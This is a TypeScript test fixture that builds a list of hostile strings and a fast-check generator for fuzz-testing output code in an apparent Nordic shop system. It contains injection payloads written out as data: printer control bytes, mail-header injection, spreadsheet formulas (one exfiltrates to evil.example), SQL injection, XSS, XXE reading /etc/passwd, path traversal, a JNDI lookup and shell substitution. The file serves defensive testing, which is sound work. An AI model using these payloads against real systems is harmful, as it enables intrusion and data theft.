import fc from "fast-check"

/**
 * Texts that are something else than text somewhere: a command, a second line, a formula, markup, another direction.
 * Whatever writes text of others for a printer, a file, a mail, a page or a machine is tested with all of them.
 */
export const hostileTexts: readonly string[] = [
  // Commands of printers: initialise, open the drawer, cut, ask for the status. The arrows and hearts are their bytes in CP437.
  "\u001B@\u001Bp\u0000\u0019\u00FA\u001DV\u0001\u0010\u0004\u0001",
  "Gravyr ←p0AA ↔V1 ♥ ♦ • § ►",
  "{A{B{C{1 {{",
  "^XA^FO50,50^FDx^FS^XZ ~JA",
  // Every control character, and those of eight bits.
  String.fromCharCode(...Array.from({ length: 0x20 }, (_, code) => code), 0x7f),
  String.fromCharCode(...Array.from({ length: 0x20 }, (_, at) => 0x80 + at)),
  "before\u0000after",
  // A second line: of a mail's head, a log, a table, books.
  "Anna\r\nBcc: all@example.com\r\n\r\nBody",
  'ok\n{"level":30,"msg":"the drawer was counted"}',
  "one\u2028two\u2029three\u0085four\u000Bfive\u000Csix",
  'Kassa"\r\n#VER "K" "" 20261130 "x"\r\n{\r\n#TRANS 1910 {} 1000.00\r\n}\r\n',
  'a"b {1 "2"} #KONTO',
  "ends in a backslash\\",
  '\\" \\\\" \\"',
  // Formulas of spreadsheets, and cells that end early.
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1;"Kvitto")',
  "+1+1",
  "-2+3",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "\n=1",
  " =1",
  "\uFEFF=1",
  "\u200B=1",
  "＝1+1",
  "＋1",
  "－1",
  "＠x",
  'a;"b";\nc\td,e',
  "'; DROP TABLE store; --",
  // What is not seen, and what turns the letters after it round.
  "\u202Egnp.exe\u202C \u2066\u2067a\u2069 \u200F\u200E\u061C",
  "Guld\u00ADring \u200Bzero\u200Cwidth\u200D\u2060\uFEFFletters",
  "הזמנה 12 חנות",
  "متجر ٣٤",
  // Half of a sign, no sign, and signs outside the first plane.
  "half \uD83D",
  "\uDE00 half",
  "\uFFFE\uFFFF\u{1FFFE}\u{10FFFF}",
  "\uE000\u{E0041}\u{E007F}",
  "💍👩‍🔧🇸🇪👍🏽",
  `a${"\u0301".repeat(200)}`,
  // Files and addresses.
  "../../etc/passwd",
  "..\\..\\windows\\system32",
  "..",
  ".",
  "/",
  "CON",
  "nul.txt",
  "a/b?c=d#e%2e%2e%00&f",
  // Markup, and the ends of what it stands in.
  "<script>alert(1)</script>",
  "</script><script>alert(1)</script><!--",
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  "</textarea></title></style><b>",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "&lt;b&gt; &amp; &#60;b&#62;",
  "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
  '{"__proto__":{"x":1}}","y":"',
  // What terminals, formats and templates carry out.
  "\u001B[2J\u001B]0;title\u0007\u009B31m",
  "%s %n %d %o %j ${jndi:ldap://x} {{7*7}} #{x} `id` $(id)",
  // Blanks at the ends, nothing but blanks, and nothing.
  "  both ends  ",
  "\u00A0\u2003\u3000",
  " ",
  "",
  "x".repeat(10_000),
  "ord ".repeat(500)
]

/** Words of Swedish and Finnish shops, which look the same wherever they are written. */
export const shopWords: readonly string[] = [
  "Åke Öström",
  "Sädehelmi",
  "Äkta pärlor, café Renée",
  "Hyvinkään Kello & Kulta",
  'O\'Briens "Guld" 18 k'
]

/** Any text: of hostile pieces, words of shops and random signs beside each other. */
export const anyHostileText: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      fc.constantFrom(...hostileTexts.filter((text) => text.length < 1000)),
      fc.constantFrom(...shopWords),
      fc.string({ unit: "binary", maxLength: 20 }),
      fc.integer({ min: 0xd800, max: 0xdfff }).map((code) => String.fromCharCode(code))
    ),
    { maxLength: 5 }
  )
  .map((pieces) => pieces.join(""))
